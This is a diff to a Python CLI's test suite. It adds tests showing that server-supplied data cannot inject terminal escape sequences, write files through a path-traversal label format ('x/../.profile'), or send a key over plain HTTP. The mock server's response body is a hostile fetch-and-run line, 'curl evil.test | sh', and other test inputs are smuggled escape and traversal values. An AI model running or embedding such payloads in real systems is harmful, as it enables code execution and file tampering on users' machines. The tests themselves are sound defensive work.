@@ -15,7 +15,7 @@ import typer
 from typer.testing import CliRunner
 
 from local import ROOT
-from local.command import access, deployment, profiles
+from local.command import access, deployment, profiles, rendering
 from local.command.api import Api, NoAnswerError, RefusedError, part
 from local.command.cli import app
 from tests.support.served import ServedWorld
@@ -101,6 +101,47 @@ def test_words_of_others_do_nothing_to_the_terminal(served_world: ServedWorld, r
     assert "\x1b" not in run("orders", "get", order.id).stdout
 
 
+def test_json_does_nothing_to_the_terminal_and_says_the_same(capsys: pytest.CaptureFixture[str]) -> None:
+    """A terminal takes U+009B for the beginning of an order to it, and U+202E turns what follows around."""
+    words = {"reference": "\x9b2Jgone\x7f\u202e 王\U0001f600\U000e0001\ud800"}
+    rendering.show_json(words)
+    written = capsys.readouterr().out
+    assert json.loads(written) == words
+    assert "王\U0001f600" in written
+    assert all(letter.isprintable() for letter in written.replace("\n", ""))
+
+
+def test_a_server_chooses_no_file_and_no_colour(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A label's format becomes the end of a file's name, and a status is drawn."""
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "ord_1.x").mkdir()
+    label = {"status": "ready", "format": "x/../.profile", "url": "https://bucket.test/l", "parcels": []}
+    event = {
+        "at": "\x1b[2J", "at_is_local": False, "status": "\x1b[2J", "description": "", "code": "",
+        "location": {"text": None, "city": None, "state": None, "country": None},
+    }  # fmt: skip
+    parcel = {
+        "id": "trk_1\x1b[2J", "tracking_number": "1Z", "carrier_code": None, "carrier": "lso",
+        "status": "\x1b[2J", "sub_status": "\x1b[2J", "secondary_tracking_numbers": [],
+        "estimated_delivery": None, "delivered_at": None, "signed_by": None, "events": [event],
+    }  # fmt: skip
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        if request.url.path.endswith("/label"):
+            return httpx.Response(200, json=label)
+        if request.url.path.endswith("/tracking"):
+            return httpx.Response(200, json={"data": [parcel]})
+        return httpx.Response(200, content=b"curl evil.test | sh")
+
+    monkeypatch.setattr(access, "transport", httpx.MockTransport(answer))
+    there = ("--url", "https://a.test", "--key", "k")
+    saved = CliRunner().invoke(app, ["label", "get", "ord_1", *there])
+    assert not (tmp_path / ".profile").exists(), saved.output
+    drawn = CliRunner().invoke(app, ["track", "ord_1", *there])
+    assert drawn.exit_code == 0
+    assert "\x1b" not in drawn.stdout
+
+
 def test_a_command_works_from_any_folder(
     served_world: ServedWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -172,8 +213,9 @@ def test_a_stored_key_goes_to_no_other_address(served_world: ServedWorld) -> Non
     for more in ((), ("--profile", "staging")):
         done = CliRunner().invoke(app, ["orders", "list", "--url", "http://127.0.0.1:9", *more])
         assert (done.exit_code, "--key" in done.stderr) == (2, True)
-    clear = CliRunner().invoke(app, ["login", "x", "--url", "http://api.example.com", "--key", "k"])
-    assert (clear.exit_code, "in clear" in clear.stderr) == (2, True)
+    for url in ("http://api.example.com", "HTTP://api.example.com"):
+        clear = CliRunner().invoke(app, ["login", "x", "--url", url, "--key", "k"])
+        assert (clear.exit_code, "in clear" in clear.stderr) == (2, True)
 
 
 def test_what_the_command_line_names_is_stronger_than_the_environment(served_world: ServedWorld) -> None:
